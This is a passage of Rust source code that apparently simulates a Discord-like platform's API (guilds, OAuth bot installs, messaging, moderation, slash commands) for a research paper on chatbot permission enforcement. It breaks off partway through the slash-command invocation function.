    }
}
