//! The platform API surface.
//!
//! [`Platform`] is a cheaply-clonable handle (all state behind one lock)
//! exposing the operations the rest of the workspace uses: account and guild
//! management, OAuth bot installation, messaging, moderation, and the
//! gateway event feed.
//!
//! **Enforcement model** (the crux of the paper): every call takes an
//! `actor` and is checked against *that actor's* effective permissions and
//! the role hierarchy. The platform never checks whether the human who
//! *asked a bot* to do something was allowed to — "permissions checks are
//! not enforced by the platform. Instead, the developer of a chatbot is
//! responsible for checking if the user invoking the chatbot has the
//! permission" (§4.2). That check, when it exists, lives in `botsdk`.

use crate::audit::{AuditAction, AuditEntry, AuditLog};
use crate::channel::{Channel, ChannelId, ChannelKind};
use crate::enforcer::RuntimePolicy;
use crate::error::PlatformError;
use crate::gateway::GatewayEvent;
use crate::guild::{Guild, GuildId, GuildVisibility, Member};
use crate::hierarchy;
use crate::message::{Attachment, Message, MessageId};
use crate::oauth::InviteUrl;
use crate::permissions::Permissions;
use crate::resolve;
use crate::role::{Role, RoleId};
use crate::slash::SlashCommand;
use crate::snowflake::{Snowflake, SnowflakeGen};
use crate::user::{User, UserId, UserKind, UNVERIFIED_GUILD_LIMIT};
use crate::PlatformResult;
use crossbeam::channel::{unbounded, Receiver, Sender};
use netsim::clock::VirtualClock;
use parking_lot::Mutex;
use std::collections::BTreeMap;
use std::sync::Arc;

/// An emoji used in reactions. External (cross-guild custom) emojis need
/// the `USE_EXTERNAL_EMOJIS` permission — one of the Figure 3 set.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub enum Emoji {
    /// A plain unicode emoji, usable by anyone who can react.
    Unicode(String),
    /// A custom emoji from another guild.
    External(String),
}

/// An incoming webhook: a channel-scoped posting credential. Anyone who
/// holds the token can post — no account, no permission check. This is the
/// surface the paper's citation \[54\] ("Spidey Bot" malware stealing
/// webhook credentials) abuses.
#[derive(Debug, Clone)]
pub struct Webhook {
    /// Webhook ID.
    pub id: Snowflake,
    /// The channel it posts into.
    pub channel: ChannelId,
    /// Display name used for its messages.
    pub name: String,
    /// The secret token. Possession is authorization.
    pub token: String,
    /// The pseudo-account its messages are attributed to.
    pub user: UserId,
}

/// A registered chatbot application.
#[derive(Debug, Clone)]
pub struct BotApplication {
    /// OAuth client ID (raw snowflake value).
    pub client_id: u64,
    /// The bot user account this application controls.
    pub bot_user: UserId,
    /// Display name.
    pub name: String,
    /// Whether platform staff whitelisted this app for gated scopes.
    pub whitelisted: bool,
}

struct Inner {
    clock: VirtualClock,
    ids: SnowflakeGen,
    users: BTreeMap<UserId, User>,
    guilds: BTreeMap<GuildId, Guild>,
    apps: BTreeMap<u64, BotApplication>,
    messages: BTreeMap<ChannelId, Vec<Message>>,
    channel_guild: BTreeMap<ChannelId, GuildId>,
    gateways: BTreeMap<UserId, Sender<GatewayEvent>>,
    audit: AuditLog,
    policy: RuntimePolicy,
    least_privilege: bool,
    bot_commands: BTreeMap<UserId, Vec<String>>,
    reactions: BTreeMap<MessageId, Vec<(UserId, Emoji)>>,
    pins: BTreeMap<ChannelId, Vec<MessageId>>,
    webhooks: BTreeMap<Snowflake, Webhook>,
    slash_commands: BTreeMap<u64, Vec<SlashCommand>>,
    voice_states: BTreeMap<ChannelId, Vec<UserId>>,
    voice_muted: BTreeMap<GuildId, Vec<UserId>>,
}

/// Shared handle to the simulated messaging platform.
#[derive(Clone)]
pub struct Platform {
    inner: Arc<Mutex<Inner>>,
}

impl Platform {
    /// A fresh platform on the given clock.
    pub fn new(clock: VirtualClock) -> Platform {
        Platform {
            inner: Arc::new(Mutex::new(Inner {
                ids: SnowflakeGen::new(clock.clone(), 3),
                clock,
                users: BTreeMap::new(),
                guilds: BTreeMap::new(),
                apps: BTreeMap::new(),
                messages: BTreeMap::new(),
                channel_guild: BTreeMap::new(),
                gateways: BTreeMap::new(),
                audit: AuditLog::new(),
                policy: RuntimePolicy::default(),
                least_privilege: false,
                bot_commands: BTreeMap::new(),
                reactions: BTreeMap::new(),
                pins: BTreeMap::new(),
                webhooks: BTreeMap::new(),
                slash_commands: BTreeMap::new(),
                voice_states: BTreeMap::new(),
                voice_muted: BTreeMap::new(),
            })),
        }
    }

    // ---- accounts ----------------------------------------------------

    /// Register a normal user account.
    pub fn register_user(&self, name: &str, email: &str) -> UserId {
        let mut inner = self.inner.lock();
        let id = UserId(inner.ids.next());
        inner.users.insert(
            id,
            User {
                id,
                name: name.to_string(),
                kind: UserKind::Normal,
                email: email.to_string(),
                mobile_verified: false,
                guilds_joined: 0,
            },
        );
        id
    }

    /// Complete mobile verification for an account (the manual step the
    /// paper had to perform for its honeypot personas).
    pub fn verify_mobile(&self, user: UserId) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let u = inner
            .users
            .get_mut(&user)
            .ok_or_else(|| PlatformError::NotFound {
                what: user.to_string(),
            })?;
        u.mobile_verified = true;
        Ok(())
    }

    /// Register a chatbot application owned by `owner`. Returns the app.
    pub fn register_bot_application(
        &self,
        owner: UserId,
        name: &str,
    ) -> PlatformResult<BotApplication> {
        let mut inner = self.inner.lock();
        if !inner.users.contains_key(&owner) {
            return Err(PlatformError::NotFound {
                what: owner.to_string(),
            });
        }
        let bot_id = UserId(inner.ids.next());
        inner.users.insert(
            bot_id,
            User {
                id: bot_id,
                name: format!("{name}#bot"),
                kind: UserKind::Bot { owner },
                email: String::new(),
                mobile_verified: true,
                guilds_joined: 0,
            },
        );
        let client_id = bot_id.0.raw();
        let app = BotApplication {
            client_id,
            bot_user: bot_id,
            name: name.to_string(),
            whitelisted: false,
        };
        inner.apps.insert(client_id, app.clone());
        Ok(app)
    }

    /// Staff action: whitelist an application for gated scopes.
    pub fn whitelist_application(&self, client_id: u64) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let app = inner
            .apps
            .get_mut(&client_id)
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("app {client_id}"),
            })?;
        app.whitelisted = true;
        Ok(())
    }

    /// Account lookup.
    pub fn user(&self, id: UserId) -> PlatformResult<User> {
        self.inner
            .lock()
            .users
            .get(&id)
            .cloned()
            .ok_or_else(|| PlatformError::NotFound {
                what: id.to_string(),
            })
    }

    /// Application lookup by client ID.
    pub fn application(&self, client_id: u64) -> PlatformResult<BotApplication> {
        self.inner
            .lock()
            .apps
            .get(&client_id)
            .cloned()
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("app {client_id}"),
            })
    }

    // ---- guilds --------------------------------------------------------

    /// Create a guild; the creator becomes owner and a `#general` text
    /// channel is provisioned.
    pub fn create_guild(
        &self,
        owner: UserId,
        name: &str,
        visibility: GuildVisibility,
    ) -> PlatformResult<GuildId> {
        let mut inner = self.inner.lock();
        if !inner.users.contains_key(&owner) {
            return Err(PlatformError::NotFound {
                what: owner.to_string(),
            });
        }
        let gid = GuildId(inner.ids.next());
        let everyone = RoleId(inner.ids.next());
        let mut guild = Guild::new(gid, name, owner, everyone, visibility);
        let cid = ChannelId(inner.ids.next());
        guild.channels.insert(cid, Channel::text(cid, "general"));
        inner.channel_guild.insert(cid, gid);
        inner.guilds.insert(gid, guild);
        if let Some(u) = inner.users.get_mut(&owner) {
            u.guilds_joined += 1;
        }
        Ok(gid)
    }

    /// Read a guild snapshot (cloned).
    pub fn guild(&self, id: GuildId) -> PlatformResult<Guild> {
        self.inner
            .lock()
            .guilds
            .get(&id)
            .cloned()
            .ok_or_else(|| PlatformError::NotFound {
                what: id.to_string(),
            })
    }

    /// The guild that owns a channel.
    pub fn guild_of_channel(&self, channel: ChannelId) -> PlatformResult<GuildId> {
        self.inner
            .lock()
            .channel_guild
            .get(&channel)
            .copied()
            .ok_or_else(|| PlatformError::NotFound {
                what: channel.to_string(),
            })
    }

    /// The first text channel of a guild (convenience; every guild has one).
    pub fn default_channel(&self, guild: GuildId) -> PlatformResult<ChannelId> {
        let inner = self.inner.lock();
        let g = inner
            .guilds
            .get(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        let first = g.text_channels().next().map(|c| c.id);
        first.ok_or_else(|| PlatformError::NotFound {
            what: "text channel".into(),
        })
    }

    /// Create a channel. Requires `MANAGE_CHANNELS`.
    pub fn create_channel(
        &self,
        actor: UserId,
        guild: GuildId,
        name: &str,
        kind: ChannelKind,
    ) -> PlatformResult<ChannelId> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::MANAGE_CHANNELS, "create a channel")?;
        let cid = ChannelId(inner.ids.next());
        let channel = match kind {
            ChannelKind::Text => Channel::text(cid, name),
            ChannelKind::Voice => Channel::voice(cid, name),
        };
        g.channels.insert(cid, channel);
        inner.channel_guild.insert(cid, guild);
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild,
            actor,
            action: AuditAction::ChannelCreated {
                name: name.to_string(),
            },
        });
        dispatch(
            inner,
            guild,
            GatewayEvent::ChannelCreate {
                guild,
                channel: cid,
            },
        );
        Ok(cid)
    }

    /// Create an invite code. Requires `CREATE_INSTANT_INVITE`.
    pub fn create_invite(&self, actor: UserId, guild: GuildId) -> PlatformResult<String> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(
            g,
            actor,
            Permissions::CREATE_INSTANT_INVITE,
            "create an invite",
        )?;
        let code = format!("inv-{}", inner.ids.next());
        g.invites.push(code.clone());
        Ok(code)
    }

    /// Join a guild as a *normal* user. Bots join via [`Self::install_bot`].
    ///
    /// Private guilds require a valid invite code. New accounts that join
    /// too many guilds without mobile verification get flagged (§4.2).
    pub fn join_guild(
        &self,
        user: UserId,
        guild: GuildId,
        invite: Option<&str>,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let u = inner
            .users
            .get_mut(&user)
            .ok_or_else(|| PlatformError::NotFound {
                what: user.to_string(),
            })?;
        if u.is_bot() {
            return Err(PlatformError::Invalid {
                reason: "bot accounts are added through the OAuth install flow".into(),
            });
        }
        if !u.mobile_verified && u.guilds_joined >= UNVERIFIED_GUILD_LIMIT {
            return Err(PlatformError::VerificationRequired);
        }
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        if g.visibility == GuildVisibility::Private {
            match invite {
                Some(code) if g.has_invite(code) => {}
                _ => return Err(PlatformError::InviteRequired),
            }
        }
        if g.members.contains_key(&user) {
            return Ok(());
        }
        g.members.insert(
            user,
            Member {
                user,
                roles: Vec::new(),
                nickname: None,
            },
        );
        u.guilds_joined += 1;
        dispatch(inner, guild, GatewayEvent::GuildMemberAdd { guild, user });
        Ok(())
    }

    // ---- OAuth install -------------------------------------------------

    /// Install a chatbot into a guild from its invite URL.
    ///
    /// Checks, in order: the install flow's captcha (§4.2: "To add a chatbot
    /// to the guild, we need to solve a Google reCAPTCHA"); the installer's
    /// `MANAGE_GUILD` permission (§4.1); scope gating (whitelist/testing);
    /// then creates the bot member with a managed role carrying the
    /// requested permissions and emits `GuildCreate` to the bot's gateway.
    pub fn install_bot(
        &self,
        installer: UserId,
        guild: GuildId,
        invite: &InviteUrl,
        captcha_solved: bool,
    ) -> PlatformResult<UserId> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        if !captcha_solved {
            return Err(PlatformError::CaptchaRequired);
        }
        let app =
            inner
                .apps
                .get(&invite.client_id)
                .cloned()
                .ok_or_else(|| PlatformError::OAuth {
                    reason: format!("unknown client_id {}", invite.client_id),
                })?;
        for scope in &invite.scopes {
            if scope.requires_whitelist() && !app.whitelisted {
                return Err(PlatformError::OAuth {
                    reason: format!("scope {scope} requires staff whitelist"),
                });
            }
            if scope.testing_only() {
                return Err(PlatformError::OAuth {
                    reason: format!("scope {scope} is for testing only"),
                });
            }
        }
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, installer, Permissions::MANAGE_GUILD, "install a chatbot")?;
        if g.members.contains_key(&app.bot_user) {
            return Ok(app.bot_user);
        }
        // Discord creates a managed role for the bot holding exactly the
        // permissions that were consented to, positioned above @everyone.
        let role_id = RoleId(inner.ids.next());
        let position = g.roles.values().map(|r| r.position).max().unwrap_or(0) + 1;
        g.roles.insert(
            role_id,
            Role {
                id: role_id,
                name: app.name.clone(),
                position,
                permissions: invite.permissions,
            },
        );
        g.members.insert(
            app.bot_user,
            Member {
                user: app.bot_user,
                roles: vec![role_id],
                nickname: None,
            },
        );
        let guild_name = g.name.clone();
        if let Some(bot_account) = inner.users.get_mut(&app.bot_user) {
            bot_account.guilds_joined += 1;
        }
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild,
            actor: installer,
            action: AuditAction::BotInstalled { bot: app.bot_user },
        });
        // The GuildCreate event goes only to the newly added bot, before the
        // member-add fan-out, matching the order a real gateway delivers.
        if let Some(tx) = inner.gateways.get(&app.bot_user) {
            let _ = tx.send(GatewayEvent::GuildCreate { guild, guild_name });
        }
        // Other bots see the member-add; the new bot already got GuildCreate.
        dispatch_except(
            inner,
            guild,
            GatewayEvent::GuildMemberAdd {
                guild,
                user: app.bot_user,
            },
            Some(app.bot_user),
        );
        Ok(app.bot_user)
    }

    // ---- gateway ------------------------------------------------------

    /// Open a gateway connection for a bot account; events for guilds the
    /// bot is a member of will be delivered to the returned receiver.
    pub fn connect_gateway(&self, bot: UserId) -> PlatformResult<Receiver<GatewayEvent>> {
        let mut inner = self.inner.lock();
        let account = inner
            .users
            .get(&bot)
            .ok_or_else(|| PlatformError::NotFound {
                what: bot.to_string(),
            })?;
        if !account.is_bot() {
            return Err(PlatformError::Invalid {
                reason: "only bot accounts use the gateway".into(),
            });
        }
        let (tx, rx) = unbounded();
        inner.gateways.insert(bot, tx);
        Ok(rx)
    }

    // ---- messaging ------------------------------------------------------

    /// Post a message. Requires `SEND_MESSAGES` (and `ATTACH_FILES` when
    /// attachments are present) in the channel.
    pub fn send_message(
        &self,
        actor: UserId,
        channel: ChannelId,
        content: &str,
        attachments: Vec<Attachment>,
    ) -> PlatformResult<MessageId> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner
            .guilds
            .get(&guild_id)
            .expect("channel_guild consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::SEND_MESSAGES) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::SEND_MESSAGES,
                action: "send a message".into(),
            });
        }
        if !attachments.is_empty() && !perms.contains(Permissions::ATTACH_FILES) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::ATTACH_FILES,
                action: "attach files".into(),
            });
        }
        let id = MessageId(inner.ids.next());
        let message = Message {
            id,
            channel,
            author: actor,
            content: content.to_string(),
            attachments,
            at: inner.clock.now(),
        };
        inner
            .messages
            .entry(channel)
            .or_default()
            .push(message.clone());
        dispatch(
            inner,
            guild_id,
            GatewayEvent::MessageCreate {
                guild: guild_id,
                message,
            },
        );
        Ok(id)
    }

    /// Read a channel's message history. Requires `VIEW_CHANNEL` and
    /// `READ_MESSAGE_HISTORY`.
    pub fn read_history(&self, actor: UserId, channel: ChannelId) -> PlatformResult<Vec<Message>> {
        let inner = self.inner.lock();
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner
            .guilds
            .get(&guild_id)
            .expect("channel_guild consistent");
        let actor_is_bot = inner.users.get(&actor).map(|u| u.is_bot()).unwrap_or(false);
        if inner.policy.applies_to(actor_is_bot) && !inner.policy.allows_bot_history_read() {
            return Err(PlatformError::MissingPermission {
                required: Permissions::READ_MESSAGE_HISTORY,
                action: "bulk-read history (denied by the runtime enforcer)".into(),
            });
        }
        let perms = resolve::channel_permissions(g, channel, actor)?;
        let needed = Permissions::VIEW_CHANNEL | Permissions::READ_MESSAGE_HISTORY;
        if !perms.contains(needed) {
            return Err(PlatformError::MissingPermission {
                required: needed,
                action: "read message history".into(),
            });
        }
        Ok(inner.messages.get(&channel).cloned().unwrap_or_default())
    }

    /// Delete a message. Own messages are always deletable; others require
    /// `MANAGE_MESSAGES`.
    pub fn delete_message(
        &self,
        actor: UserId,
        channel: ChannelId,
        id: MessageId,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let msgs = inner
            .messages
            .get_mut(&channel)
            .ok_or_else(|| PlatformError::NotFound {
                what: id.to_string(),
            })?;
        let idx = msgs
            .iter()
            .position(|m| m.id == id)
            .ok_or_else(|| PlatformError::NotFound {
                what: id.to_string(),
            })?;
        if msgs[idx].author != actor {
            let g = inner.guilds.get(&guild_id).expect("consistent");
            let perms = resolve::channel_permissions(g, channel, actor)?;
            if !perms.contains(Permissions::MANAGE_MESSAGES) {
                return Err(PlatformError::MissingPermission {
                    required: Permissions::MANAGE_MESSAGES,
                    action: "delete another user's message".into(),
                });
            }
        }
        msgs.remove(idx);
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild: guild_id,
            actor,
            action: AuditAction::MessageDeleted,
        });
        Ok(())
    }

    // ---- moderation ------------------------------------------------------

    /// Kick a member. Requires `KICK_MEMBERS` and hierarchy rule 4.
    pub fn kick(&self, actor: UserId, guild: GuildId, subject: UserId) -> PlatformResult<()> {
        self.moderate(
            actor,
            guild,
            subject,
            Permissions::KICK_MEMBERS,
            "kick a member",
            |inner, g, s| {
                inner.audit.record(AuditEntry {
                    at: inner.clock.now(),
                    guild: g,
                    actor,
                    action: AuditAction::MemberKicked { subject: s },
                });
            },
        )
    }

    /// Ban a member. Requires `BAN_MEMBERS` and hierarchy rule 4.
    pub fn ban(&self, actor: UserId, guild: GuildId, subject: UserId) -> PlatformResult<()> {
        self.moderate(
            actor,
            guild,
            subject,
            Permissions::BAN_MEMBERS,
            "ban a member",
            |inner, g, s| {
                inner.audit.record(AuditEntry {
                    at: inner.clock.now(),
                    guild: g,
                    actor,
                    action: AuditAction::MemberBanned { subject: s },
                });
            },
        )
    }

    fn moderate(
        &self,
        actor: UserId,
        guild: GuildId,
        subject: UserId,
        required: Permissions,
        action: &str,
        record: impl FnOnce(&mut Inner, GuildId, UserId),
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, required, action)?;
        hierarchy::can_moderate_member(g, actor, subject)?;
        if g.members.remove(&subject).is_none() {
            return Err(PlatformError::NotFound {
                what: subject.to_string(),
            });
        }
        record(inner, guild, subject);
        dispatch(
            inner,
            guild,
            GatewayEvent::GuildMemberRemove {
                guild,
                user: subject,
            },
        );
        Ok(())
    }

    /// Grant a role. Requires `MANAGE_ROLES` and hierarchy rule 1.
    pub fn grant_role(
        &self,
        actor: UserId,
        guild: GuildId,
        subject: UserId,
        role: RoleId,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::MANAGE_ROLES, "grant a role")?;
        hierarchy::can_grant_role(g, actor, role)?;
        let member = g.member_mut(subject)?;
        if !member.roles.contains(&role) {
            member.roles.push(role);
        }
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild,
            actor,
            action: AuditAction::RoleGranted { subject, role },
        });
        Ok(())
    }

    /// Create a role. Requires `MANAGE_ROLES`; the new role must sit below
    /// the actor's highest role (owner exempt).
    pub fn create_role(
        &self,
        actor: UserId,
        guild: GuildId,
        name: &str,
        position: u32,
        permissions: Permissions,
    ) -> PlatformResult<RoleId> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::MANAGE_ROLES, "create a role")?;
        if actor != g.owner {
            let top = g.highest_role_position(actor)?;
            if position >= top {
                return Err(PlatformError::HierarchyViolation {
                    rule: "can only create roles below own highest role",
                });
            }
            let actor_perms = resolve::guild_permissions(g, actor)?;
            if !actor_perms.contains(permissions) {
                return Err(PlatformError::HierarchyViolation {
                    rule: "can only grant permissions it has to created roles",
                });
            }
        }
        let rid = RoleId(inner.ids.next());
        g.roles.insert(
            rid,
            Role {
                id: rid,
                name: name.to_string(),
                position,
                permissions,
            },
        );
        Ok(rid)
    }

    /// Edit a role's permissions. Requires `MANAGE_ROLES` and rule 2.
    pub fn edit_role(
        &self,
        actor: UserId,
        guild: GuildId,
        role: RoleId,
        permissions: Permissions,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::MANAGE_ROLES, "edit a role")?;
        hierarchy::can_edit_role(g, actor, role, permissions)?;
        g.roles
            .get_mut(&role)
            .expect("checked by can_edit_role")
            .permissions = permissions;
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild,
            actor,
            action: AuditAction::RoleEdited { role },
        });
        Ok(())
    }

    /// Reposition a role. Requires `MANAGE_ROLES` and rule 3.
    pub fn sort_role(
        &self,
        actor: UserId,
        guild: GuildId,
        role: RoleId,
        position: u32,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::MANAGE_ROLES, "sort roles")?;
        hierarchy::can_sort_role(g, actor, role, position)?;
        g.roles
            .get_mut(&role)
            .expect("checked by can_sort_role")
            .position = position;
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild,
            actor,
            action: AuditAction::RoleSorted { role, position },
        });
        Ok(())
    }

    /// Change a nickname. Own nickname needs `CHANGE_NICKNAME`; others need
    /// `MANAGE_NICKNAMES` plus hierarchy rule 4.
    pub fn change_nickname(
        &self,
        actor: UserId,
        guild: GuildId,
        subject: UserId,
        nickname: Option<String>,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        if actor == subject {
            require(
                g,
                actor,
                Permissions::CHANGE_NICKNAME,
                "change own nickname",
            )?;
        } else {
            require(g, actor, Permissions::MANAGE_NICKNAMES, "manage nicknames")?;
            hierarchy::can_moderate_member(g, actor, subject)?;
        }
        g.member_mut(subject)?.nickname = nickname;
        inner.audit.record(AuditEntry {
            at: inner.clock.now(),
            guild,
            actor,
            action: AuditAction::NicknameChanged { subject },
        });
        Ok(())
    }

    // ---- reactions & pins -------------------------------------------------

    /// React to a message. Requires `ADD_REACTIONS` (and
    /// `USE_EXTERNAL_EMOJIS` for external emojis) in the channel.
    pub fn add_reaction(
        &self,
        actor: UserId,
        channel: ChannelId,
        message: MessageId,
        emoji: Emoji,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::ADD_REACTIONS) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::ADD_REACTIONS,
                action: "add a reaction".into(),
            });
        }
        if matches!(emoji, Emoji::External(_)) && !perms.contains(Permissions::USE_EXTERNAL_EMOJIS)
        {
            return Err(PlatformError::MissingPermission {
                required: Permissions::USE_EXTERNAL_EMOJIS,
                action: "react with an external emoji".into(),
            });
        }
        let exists = inner
            .messages
            .get(&channel)
            .map(|msgs| msgs.iter().any(|m| m.id == message))
            .unwrap_or(false);
        if !exists {
            return Err(PlatformError::NotFound {
                what: message.to_string(),
            });
        }
        let entry = inner.reactions.entry(message).or_default();
        if !entry.iter().any(|(u, e)| *u == actor && *e == emoji) {
            entry.push((actor, emoji));
        }
        Ok(())
    }

    /// Reactions on a message. Requires `VIEW_CHANNEL`.
    pub fn reactions(
        &self,
        actor: UserId,
        channel: ChannelId,
        message: MessageId,
    ) -> PlatformResult<Vec<(UserId, Emoji)>> {
        let inner = self.inner.lock();
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::VIEW_CHANNEL) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::VIEW_CHANNEL,
                action: "view reactions".into(),
            });
        }
        Ok(inner.reactions.get(&message).cloned().unwrap_or_default())
    }

    /// Pin a message. Requires `MANAGE_MESSAGES`.
    pub fn pin_message(
        &self,
        actor: UserId,
        channel: ChannelId,
        message: MessageId,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::MANAGE_MESSAGES) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::MANAGE_MESSAGES,
                action: "pin a message".into(),
            });
        }
        let exists = inner
            .messages
            .get(&channel)
            .map(|msgs| msgs.iter().any(|m| m.id == message))
            .unwrap_or(false);
        if !exists {
            return Err(PlatformError::NotFound {
                what: message.to_string(),
            });
        }
        let pins = inner.pins.entry(channel).or_default();
        if !pins.contains(&message) {
            pins.push(message);
        }
        Ok(())
    }

    /// Pinned messages of a channel. Requires `VIEW_CHANNEL`.
    pub fn pins(&self, actor: UserId, channel: ChannelId) -> PlatformResult<Vec<MessageId>> {
        let inner = self.inner.lock();
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::VIEW_CHANNEL) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::VIEW_CHANNEL,
                action: "view pins".into(),
            });
        }
        Ok(inner.pins.get(&channel).cloned().unwrap_or_default())
    }

    // ---- slash commands -----------------------------------------------------

    /// Register (replace) an application's slash commands. Requires the
    /// `applications.commands`-style developer access — modeled as: only
    /// the app's owner account may register.
    pub fn register_slash_commands(
        &self,
        actor: UserId,
        client_id: u64,
        commands: Vec<SlashCommand>,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let app = inner
            .apps
            .get(&client_id)
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("app {client_id}"),
            })?;
        let owner = inner
            .users
            .get(&app.bot_user)
            .and_then(|u| u.owner())
            .ok_or_else(|| PlatformError::Invalid {
                reason: "app has no owner".into(),
            })?;
        if actor != owner {
            return Err(PlatformError::Invalid {
                reason: "only the application owner may register commands".into(),
            });
        }
        inner.slash_commands.insert(client_id, commands);
        Ok(())
    }

    /// The commands an application has registered.
    pub fn slash_commands(&self, client_id: u64) -> Vec<SlashCommand> {
        self.inner
            .lock()
            .slash_commands
            .get(&client_id)
            .cloned()
            .unwrap_or_default()
    }

    /// Invoke a slash command.
    ///
    /// This is the §5 fix in action: the **platform** checks the invoking
    /// user's effective permissions against the command's
    /// `default_member_permissions` *before* the bot's backend is told
    /// anything. An unauthorized invoker is rejected here; the developer
    /// cannot forget the check because it is not theirs to perform.
    pub fn invoke_slash(
        &self,
        invoker: UserId,
        channel: ChannelId,
        client_id: u64,
        command: &str,
        args: &str,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let app = inner
            .apps
            .get(&client_id)
            .cloned()
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("app {client_id}"),
            })?;
        let g = inner
            .guilds
            .get(&guild_id)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild_id.to_string(),
            })?;
        if g.member(app.bot_user).is_err() {
            return Err(PlatformError::NotFound {
                what: "bot not installed in this guild".into(),
            });
        }
        let spec = inner
            .slash_commands
            .get(&client_id)
            .and_then(|cmds| cmds.iter().find(|c| c.name == command))
            .cloned()
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("command /{command}"),
            })?;

        // Platform-enforced invoker check.
        let invoker_perms = resolve::channel_permissions(g, channel, invoker)?;
        if !invoker_perms.contains(spec.default_member_permissions) {
            return Err(PlatformError::MissingPermission {
                required: spec.default_member_permissions,
                action: format!("invoke /{command}"),
            });
        }

        if let Some(tx) = inner.gateways.get(&app.bot_user) {
            let _ = tx.send(GatewayEvent::InteractionCreate {
                guild: guild_id,
